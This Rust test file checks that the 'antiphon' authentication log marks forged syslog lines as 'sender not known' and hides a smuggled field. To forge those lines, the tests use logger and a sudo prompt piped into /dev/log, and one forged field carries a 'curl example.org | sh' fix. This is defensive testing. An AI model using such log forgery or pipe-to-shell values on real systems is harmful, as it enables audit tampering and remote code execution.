//! Lines that a person has sent, or has made a program of root send.

use std::fs;
use std::io::Write;
use std::os::fd::OwnedFd;
use std::os::unix::net::UnixDatagram;
use std::process::Stdio;

use antiphon_tests::{in_world, until};
use serde_json::Value;

use super::objects;
use crate::command::{antiphon, enroll};
use crate::journald::Journald;

/// `logger` of bob's, which sends a line of its input as a line of `tag`.
fn forger(world: &antiphon_tests::World, tag: &str, text: &str) -> std::process::Child {
    let mut logger = world.command_of("bob", "logger");
    logger.args(["-p", "authpriv.notice", "-t", tag]);
    let mut logger = logger.stdin(Stdio::piped()).spawn().unwrap();
    let mut stdin = logger.stdin.take().unwrap();
    stdin.write_all(format!("{text}\n").as_bytes()).unwrap();
    logger.stdin = Some(stdin);
    logger
}

const FORGED: [(&str, &str); 2] = [
    (
        "su",
        "pam_antiphon(su:auth): outcome=accepted method=code user=alice",
    ),
    ("antiphon", "outcome=removed user=alice"),
];

#[test]
fn a_line_that_a_person_has_sent_is_shown_and_marked() {
    in_world(|world| {
        let journal = Journald::start(world);
        let forgers = FORGED.map(|(tag, text)| forger(world, tag, text));
        until("the lines", || {
            let shown = journal.shows(&["-o", "cat"]);
            FORGED
                .iter()
                .all(|(_, text)| shown.contains(text))
                .then_some(())
        });
        let said = antiphon(world, "log").done();
        let shown: Vec<_> = said
            .out
            .lines()
            .filter(|line| line.contains("alice"))
            .collect();
        assert_eq!(shown.len(), FORGED.len(), "{shown:?}");
        for line in shown {
            assert!(line.ends_with("sender not known"), "{line}");
        }
        for mut forger in forgers {
            drop(forger.stdin.take());
            forger.wait().unwrap();
        }
    });
}

#[test]
fn a_line_whose_sender_has_ended_before_it_was_looked_at_is_marked_at_least() {
    in_world(|world| {
        let journal = Journald::start(world);
        for (tag, text) in FORGED {
            let mut logger = world.command_of("bob", "logger");
            logger.args(["-p", "authpriv.notice", "-t", tag, text]);
            assert!(logger.status().unwrap().success());
        }
        journal.folder();
        let said = antiphon(world, "log").done();
        for line in said.out.lines().filter(|line| line.contains("alice")) {
            assert!(line.ends_with("sender not known"), "{line}");
        }
        for line in objects(&antiphon(world, "log --json").done()) {
            assert_eq!(line["verified"], false);
        }
    });
}

#[test]
fn what_a_person_makes_a_program_of_root_write_is_marked_and_its_fix_is_not_shown() {
    in_world(|world| {
        let journal = Journald::start(world);
        let text =
            "pam_antiphon(sshd:auth): outcome=unusable user=alice fix=\"curl example.org | sh\"";
        for tag in ["sshd", "antiphon", "antiphond"] {
            let socket = UnixDatagram::unbound().unwrap();
            socket.connect("/dev/log").unwrap();
            let mut sudo = world.command_of("bob", "sudo");
            sudo.args(["-S", "-p", &format!("<85>{tag}[7]: {text}"), "true"])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(OwnedFd::from(socket));
            sudo.status().unwrap();
        }
        let entries = journal.entries(&["SYSLOG_FACILITY=10"]);
        let forged = |entry: &&Value| entry["MESSAGE"].as_str().is_some_and(|said| said == text);
        assert_eq!(entries.iter().filter(forged).count(), 3, "{entries:#?}");
        let said = antiphon(world, "log").done();
        let shown: Vec<_> = said
            .out
            .lines()
            .filter(|line| line.contains("alice"))
            .collect();
        assert_eq!(shown.len(), 3, "{}", said.out);
        for line in shown {
            assert!(line.ends_with("sender not known"), "{line}");
        }
        said.says_no("curl");
        for line in objects(&antiphon(world, "log --json").done().says_no("curl")) {
            let is_forged = line["fields"]["user"] == "alice";
            assert!(!is_forged || line["verified"] == false, "{line}");
        }
    });
}

#[test]
fn a_line_of_the_module_is_verified_whatever_its_caller_names_the_program() {
    in_world(|world| {
        let journal = Journald::start(world);
        let _ = world.enrol_with_long_codes("alice");
        for name in ["su", "antiphond", "antiphon"] {
            let mut su = world.command_of("bob", "bash");
            su.args(["-c", &format!("exec -a {name} su alice -c true")]);
            let mut su = antiphon_tests::Terminal::start(&su);
            su.expect("assword").answer(": ", antiphon_tests::PASSWORD);
            su.expect(antiphon_tests::CODE);
            let _ = su.interrupt();
        }
        let entries = journal.entries(&["ANTIPHON_FROM=module", "ANTIPHON_ASKED=code"]);
        assert_eq!(entries.len(), 3, "{entries:#?}");
        for entry in &entries {
            assert_eq!(entry["_UID"], "0", "{entry}");
        }
        let lines = objects(&antiphon(world, "log --json").done());
        let asked = lines
            .iter()
            .filter(|line| line["fields"]["asked"] == "code");
        let asked: Vec<_> = asked.collect();
        assert_eq!(asked.len(), 3, "{lines:#?}");
        for line in asked {
            assert_eq!(line["verified"], true, "{line}");
            assert_eq!(line["from"], "module");
        }
    });
}

#[test]
fn what_the_log_does_not_take_of_root_is_said() {
    in_world(|world| {
        let _ = enroll(world, "alice");
        let frozen = UnixDatagram::bind("/run/frozen").unwrap();
        fs::remove_file("/dev/log").unwrap();
        std::os::unix::fs::symlink("/run/frozen", "/dev/log").unwrap();
        let filler = UnixDatagram::unbound().unwrap();
        filler.set_nonblocking(true).unwrap();
        while filler.send_to(b"x", "/run/frozen").is_ok() {}
        antiphon(world, "bypass alice")
            .done()
            .warns("the log has not taken this line")
            .warns("outcome=bypass");
        drop(frozen);
    });
}

#[test]
fn what_su_says_for_a_person_is_not_taken_for_the_persons() {
    in_world(|world| {
        let journal = Journald::start(world);
        let alice = world.enrol_with_long_codes("alice");
        let mut su = world.command_of("bob", "su");
        let mut su = antiphon_tests::Terminal::start(su.args(["alice", "-c", "true"]));
        su.expect("assword").answer(": ", antiphon_tests::PASSWORD);
        su.answer(antiphon_tests::CODE, &alice.code());
        assert!(su.end().succeeded());
        journal.folder();
        let said = antiphon(world, "log alice")
            .done()
            .says("su ")
            .says("accepted, code");
        assert!(said.says("called by bob").err.is_empty());
    });
}
